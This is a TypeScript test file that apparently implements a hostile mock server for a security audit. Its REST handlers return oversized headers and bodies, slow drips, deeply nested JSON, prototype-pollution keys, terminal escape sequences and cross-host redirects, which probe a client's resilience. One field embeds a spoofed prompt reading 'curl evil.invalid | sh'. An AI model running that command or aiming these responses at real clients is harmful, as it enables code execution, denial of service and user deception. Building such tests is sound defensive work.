// The audit's hostile REST answers (security-audit.md §C), each as a handler for one path.
import type http from 'node:http';
import { json, ME, sleep, USER_ID } from './hostile-server';

export type Mode = (res: http.ServerResponse, context: { trap: string }) => Promise<void> | void;

const DRIP_BYTES = 30;

export const REST_MODES: Record<string, Mode> = {
  'huge header (200 KB)': (res) => void res.writeHead(200, { 'X-Huge': 'h'.repeat(200 * 1024), 'Content-Type': 'application/json' }).end('{}'),
  '5000 headers': (res) => {
    const headers: Record<string, string> = { 'Content-Type': 'application/json' };
    for (let i = 0; i < 5000; i += 1) headers[`x-h${i}`] = 'v';
    res.writeHead(200, headers).end('{}');
  },
  'header drip': async (res) => {
    const socket = res.socket!;
    for (let i = 0; i < DRIP_BYTES && !socket.destroyed; i += 1) {
      socket.write('HTTP/1.1 200 OK\r\n'.charAt(i % 17));
      await sleep(100);
    }
    socket.destroy();
  },
  'body drip (bounded)': async (res) => {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    for (let i = 0; i < DRIP_BYTES && !res.destroyed; i += 1) {
      res.write('{'.repeat(1));
      await sleep(50);
    }
    res.end();
  },
  '100 MiB chunked body': async (res) => {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    const chunk = Buffer.alloc(1 << 20, 0x61);
    for (let i = 0; i < 100 && !res.destroyed; i += 1) {
      if (!res.write(chunk)) await new Promise((resolve) => res.once('drain', resolve).once('close', resolve));
    }
    res.end();
  },
  'Content-Length 100 MiB then stall': async (res) => {
    res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': String(100 << 20) });
    res.write('{"success":');
    await sleep(1500);
    res.destroy();
  },
  'invalid JSON': (res) => void json(res, 200, '{"success": tru'),
  '200k-deep JSON': (res) => void json(res, 200, `${'['.repeat(200_000)}${']'.repeat(200_000)}`),
  '__proto__ keys': (res) => void json(res, 200, `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"status":"success","data":{"userId":"${USER_ID}","authToken":"t","me":{"_id":"${USER_ID}","__proto__":{"polluted":true}}}}`),
  'very long strings': (res) => void json(res, 200, { ...ME, success: true, name: 'n'.repeat(150_000), username: 'u'.repeat(150_000), statusText: 's'.repeat(150_000) }),
  'control characters': (res) => void json(res, 200, { ...ME, success: true, name: '\u001b[2J\u001b]0;PWNED\u0007\u0000', statusText: 'fine\r\u001b[KSigned out. Run: curl evil.invalid | sh' }),
  'HTML 403 (WAF)': (res) => void res.writeHead(403, { 'Content-Type': 'text/html' }).end('<html><body>403 Forbidden — corporate proxy / WAF</body></html>'),
  'HTML 400 (proxy)': (res) => void res.writeHead(400, { 'Content-Type': 'text/html' }).end('<html>400 Bad Request — Request Header Or Cookie Too Large</html>'),
  'JSON 403 maintenance': (res) => void json(res, 403, { success: false, error: 'Maintenance mode' }),
  '302 to another host': (res, { trap }) => void res.writeHead(302, { Location: `${trap}/api/v1/login` }).end(),
  '307 to another host': (res, { trap }) => void res.writeHead(307, { Location: `${trap}/api/v1/login` }).end(),
  '12 KB Location': (res, { trap }) => void res.writeHead(302, { Location: `${trap}/${'l'.repeat(12_000)}` }).end(),
  "401 with '__proto__' as the error id": (res) => void json(res, 401, { success: false, status: 'error', error: '__proto__', message: 'constructor' }),
  'numeric ids and tokens': (res) => void json(res, 200, { status: 'success', data: { userId: 5, authToken: 7, me: { _id: 5 } } }),
  '500 with a stack': (res) => void json(res, 500, { success: false, error: 'Error: boom\n    at Object.<anonymous> (/app/server.js:1:1)' }),
  'hang up': (res) => void res.socket?.destroy(),
  'empty 200': (res) => void res.writeHead(200).end(),
};
